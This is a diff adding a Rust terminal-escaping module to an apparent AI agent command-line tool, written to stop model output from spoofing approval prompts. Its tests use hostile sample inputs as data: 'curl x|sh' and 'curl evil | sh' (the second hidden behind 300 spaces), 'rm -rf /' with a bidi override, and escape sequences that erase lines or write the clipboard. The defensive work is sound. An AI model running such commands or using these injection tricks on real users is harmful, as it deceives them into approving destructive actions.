@@ -1,0 +1,205 @@
+//! Everything hands writes to a terminal goes through here, escaped: a model's text, tool-call
+//! lines, approval prompts, ask_user's questions, notices, errors and file names may carry bytes
+//! that a terminal obeys (ESC sequences that move the cursor, erase a line, set the title or
+//! write the clipboard; a bare CR that returns to the start of the line; C1 controls; bidi
+//! overrides that reorder what is shown). [`text`] makes them visible instead: `\e`, `\r`,
+//! `\x07`, `\x7f`, `\u{9b}`, `\u{202e}` (a backslash stays as it is: what was typed is shown).
+//! [`line`] also flattens a line break and marks long runs of blanks (`⟨300 spaces⟩`), so that a
+//! one-line summary cannot hide its tail after a screenful of spaces.
+//!
+//! The writers ([`out`], [`err`], [`errln`], [`write_to`]) escape whatever they are given, so no
+//! caller can forget; hands' own control sequences (the spinner's line clearing) go through
+//! [`clear_line`] only. A test keeps the other modules from printing by themselves.
+
+use std::fmt::Write as _;
+use std::io::Write;
+
+/// Runs of this many blanks or more are shown as `⟨N spaces⟩` in a [`line`].
+const BLANK_RUN: usize = 8;
+
+/// `text` safe for a terminal, line breaks and tabs kept: every other control character (C0,
+/// ESC, DEL, C1) and every invisible reordering character is shown as an escape.
+pub fn text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\n' | '\t' => out.push(c),
+            c => push_escaped(&mut out, c),
+        }
+    }
+    out
+}
+
+/// `text` as one line safe for a terminal: like [`text`], and line breaks and tabs are escaped
+/// too (`\n`, `\t`), and runs of [`BLANK_RUN`] or more blanks are marked with their length.
+pub fn line(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == ' ' || (c.is_whitespace() && !c.is_control()) {
+            let mut run = 1;
+            let mut all_spaces = c == ' ';
+            while let Some(&next) = chars.peek() {
+                if next == ' ' || (next.is_whitespace() && !next.is_control()) {
+                    all_spaces &= next == ' ';
+                    run += 1;
+                    chars.next();
+                } else {
+                    break;
+                }
+            }
+            if run >= BLANK_RUN {
+                let what = if all_spaces { "spaces" } else { "blanks" };
+                let _ = write!(out, "⟨{run} {what}⟩");
+            } else {
+                out.push_str(&" ".repeat(run));
+            }
+            continue;
+        }
+        push_escaped(&mut out, c);
+    }
+    out
+}
+
+/// Push `c`, or its visible escape when a terminal would act on it.
+fn push_escaped(out: &mut String, c: char) {
+    match c {
+        '\u{1b}' => out.push_str("\\e"),
+        '\r' => out.push_str("\\r"),
+        '\n' => out.push_str("\\n"),
+        '\t' => out.push_str("\\t"),
+        '\0'..='\u{1f}' | '\u{7f}' => {
+            let _ = write!(out, "\\x{:02x}", u32::from(c));
+        }
+        c if is_hidden(c) => {
+            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
+        }
+        c => out.push(c),
+    }
+}
+
+/// C1 controls and the characters that reorder or hide text without being seen (bidi
+/// embeddings, overrides and isolates, zero-width characters, the BOM).
+fn is_hidden(c: char) -> bool {
+    matches!(
+        c,
+        '\u{80}'..='\u{9f}'
+            | '\u{61c}'
+            | '\u{200b}'..='\u{200f}'
+            | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{2064}'
+            | '\u{2066}'..='\u{2069}'
+            | '\u{feff}'
+    )
+}
+
+/// Write `text`, escaped, to stdout.
+pub fn out(text: &str) {
+    let mut stdout = std::io::stdout().lock();
+    let _ = stdout.write_all(self::text(text).as_bytes());
+    let _ = stdout.flush();
+}
+
+/// Write `text`, escaped, to stderr.
+pub fn err(text: &str) {
+    let mut stderr = std::io::stderr().lock();
+    let _ = stderr.write_all(self::text(text).as_bytes());
+    let _ = stderr.flush();
+}
+
+/// Write `text`, escaped, and a line end to stderr.
+pub fn errln(text: &str) {
+    err(&format!("{text}\n"));
+}
+
+/// Write `text`, escaped, to `to` (the terminal itself, `/dev/tty`).
+pub fn write_to(to: &mut impl Write, text: &str) -> std::io::Result<()> {
+    to.write_all(self::text(text).as_bytes())?;
+    to.flush()
+}
+
+/// Clear stderr's current line (the spinner's): hands' own control sequence, the only one.
+pub fn clear_line(then: &str) {
+    let mut stderr = std::io::stderr().lock();
+    let _ = stderr.write_all(b"\r\x1b[2K");
+    let _ = stderr.write_all(self::text(then).as_bytes());
+    let _ = stderr.flush();
+}
+
+/// Data for stdout (a tool's result in `hands call`): escaped when stdout is a terminal, as it
+/// is, byte for byte, when it goes to a pipe or a file.
+pub fn data(text: &str) -> std::io::Result<()> {
+    use std::io::IsTerminal as _;
+    let mut stdout = std::io::stdout().lock();
+    if stdout.is_terminal() {
+        stdout.write_all(self::text(text).as_bytes())?;
+    } else {
+        stdout.write_all(text.as_bytes())?;
+    }
+    stdout.flush()
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+
+    use super::*;
+
+    #[test]
+    fn controls_become_visible_escapes() {
+        assert_eq!(
+            text("curl x|sh #\x1b[2K\rhands: allow bash: npm test"),
+            "curl x|sh #\\e[2K\\rhands: allow bash: npm test"
+        );
+        assert_eq!(
+            text("notes\x1b]0;owned\x07\x1b]52;c;aGk=\x07.txt"),
+            "notes\\e]0;owned\\x07\\e]52;c;aGk=\\x07.txt"
+        );
+        assert_eq!(text("a\u{9b}2Jb\u{7f}\0"), "a\\u{9b}2Jb\\x7f\\x00");
+        assert_eq!(text("rm -rf /\u{202e}txt.md"), "rm -rf /\\u{202e}txt.md");
+        assert_eq!(text("two\nlines\tand tab"), "two\nlines\tand tab");
+        assert_eq!(text("naïve ✓ 日本"), "naïve ✓ 日本");
+    }
+
+    #[test]
+    fn a_line_has_no_line_break_and_no_long_blank_run() {
+        assert_eq!(line("set -e\nmake\r"), "set -e\\nmake\\r");
+        assert_eq!(line("a\tb"), "a\\tb");
+        let hidden = format!("npm test{}; curl evil | sh", " ".repeat(300));
+        assert_eq!(line(&hidden), "npm test⟨300 spaces⟩; curl evil | sh");
+        assert_eq!(line("a       b"), "a       b", "seven spaces stay");
+        assert_eq!(line("a\u{3000}\u{3000}        b"), "a⟨10 blanks⟩b");
+        assert!(!line(&hidden).contains("  "));
+    }
+
+    #[test]
+    fn escaping_twice_changes_nothing_more() {
+        let once = line("x\x1b[31m\u{9b}\n");
+        assert_eq!(line(&once), once);
+        assert_eq!(text(&once), once);
+    }
+
+    /// The modules that talk to the terminal print only through this one.
+    #[test]
+    fn no_module_prints_by_itself() {
+        let sources = [
+            ("view.rs", include_str!("view.rs")),
+            ("approve.rs", include_str!("approve.rs")),
+            ("run.rs", include_str!("run.rs")),
+            ("chat.rs", include_str!("chat.rs")),
+            ("call.rs", include_str!("call.rs")),
+            ("tools.rs", include_str!("tools.rs")),
+        ];
+        let banned =
+            ["println!", "print!(", "eprint", "write_all", "writeln!", "std::io::stdout()"];
+        for (name, source) in sources {
+            let code = source.split("#[cfg(test)]").next().unwrap();
+            for word in banned {
+                assert!(
+                    !code.contains(word),
+                    "{name} uses `{word}`: write to the terminal through term.rs"
+                );
+            }
+        }
+    }
+}
